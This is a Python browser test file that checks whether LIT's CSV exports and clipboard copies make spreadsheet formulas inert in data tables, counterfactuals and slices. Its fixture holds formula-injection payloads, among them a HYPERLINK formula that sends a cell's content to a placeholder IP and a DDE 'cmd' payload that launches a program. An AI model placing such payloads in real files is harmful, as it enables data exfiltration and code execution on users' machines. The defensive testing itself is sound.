"""The files that LIT's own tables are saved as: a spreadsheet shows them, and runs nothing."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Locator, expect

from lit_plugins import EMBEDDED_MODELS
from lit_plugins.serve.factory import create_app
from tests.browser.page import VIEWPORT, LitPage
from tests.serving import serve_in_thread

FORMULAS = [
    '=HYPERLINK("http://192.0.2.1/?"&A1,"see")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    'Good;=HYPERLINK("http://192.0.2.1","see")',
    "-0.5",
    'Good, "very" good = so good',
]
CHANGE = "=change()"


@pytest.fixture(scope="module")
def formulas(browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> str:
    """The address of a page over texts that are formulas."""
    path = tmp_path_factory.mktemp("formulas") / "formulas.csv"
    with path.open("w", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["sentence", "label", CHANGE])
        writer.writerows([text, "positive", at - 2.5] for at, text in enumerate(FORMULAS))
    return serve_in_thread(create_app(EMBEDDED_MODELS[1], {"formulas": path}, log=None))


@pytest.fixture
def lit(browser: Browser, formulas: str) -> Iterator[LitPage]:
    page = browser.new_page(viewport=VIEWPORT)
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    watched = LitPage.watched(page)
    page.goto(formulas)
    expect(watched.rows()).to_have_count(len(FORMULAS))
    watched.wait_idle()
    yield watched
    watched.wait_idle()
    assert watched.problems == []
    page.close()


def saved(lit: LitPage, within: Locator) -> list[list[str]]:
    """The rows of the file that the button below a table saves."""
    controls = within.locator("export-controls")
    controls.locator("mwc-icon", has_text="file_download").click()
    with lit.page.expect_download() as download:
        controls.locator(".download-button").click()
    return rows(download.value.path())


def rows(path: Path) -> list[list[str]]:
    with path.open(newline="") as file:
        return list(csv.reader(file))


def test_the_data_table(lit: LitPage):
    header, *lines = saved(lit, lit.module("data-table-module"))
    assert header[:3] == ["index", "sentence", "label"]
    assert f"'{CHANGE}" in header
    inert = ["'" + text for text in FORMULAS[:4]]
    inert.append(FORMULAS[4].replace(";=", ";'="))
    assert [line[1] for line in lines] == [*inert, *FORMULAS[5:]]
    change = header.index(f"'{CHANGE}")
    assert [float(line[change]) for line in lines] == [at - 2.5 for at in range(len(FORMULAS))]


def test_what_is_copied(lit: LitPage):
    controls = lit.module("data-table-module").locator("export-controls")
    controls.locator("mwc-icon", has_text="file_copy").click()
    copied = lit.page.evaluate("() => navigator.clipboard.readText()")
    assert ",-2+3," not in copied
    assert ",'-2+3," in copied


def test_generated_texts(lit: LitPage):
    lit.rows().first.click()
    lit.open_tab("Counterfactuals")
    module = lit.module("generator-module")
    form = lit.unfold("Word Replacer", module)
    form.locator(".option", has_text="Substitutions").locator("input").fill("see -> saw")
    lit.button("Apply", form).click()
    expect(module.locator(".lit-data-table-row")).not_to_have_count(0)
    cells = [cell for line in saved(lit, module) for cell in line]
    assert "'" + FORMULAS[0].replace("see", "saw") in cells
    assert [cell for cell in cells if cell[:1] in ("=", "+", "@")] == []


def test_slices(lit: LitPage):
    lit.rows().first.click()
    lit.button("Slices").click()
    slices = lit.module("lit-slice-module")
    slices.get_by_placeholder("Enter name").fill("formulas")
    lit.button("Create slice", slices).click()
    lines = saved(lit, slices.locator(".selector-item", has_text="formulas"))
    assert any(f"'{FORMULAS[0]}" in line for line in lines)
    assert [cell for line in lines for cell in line if cell[:1] in ("=", "+", "@")] == []
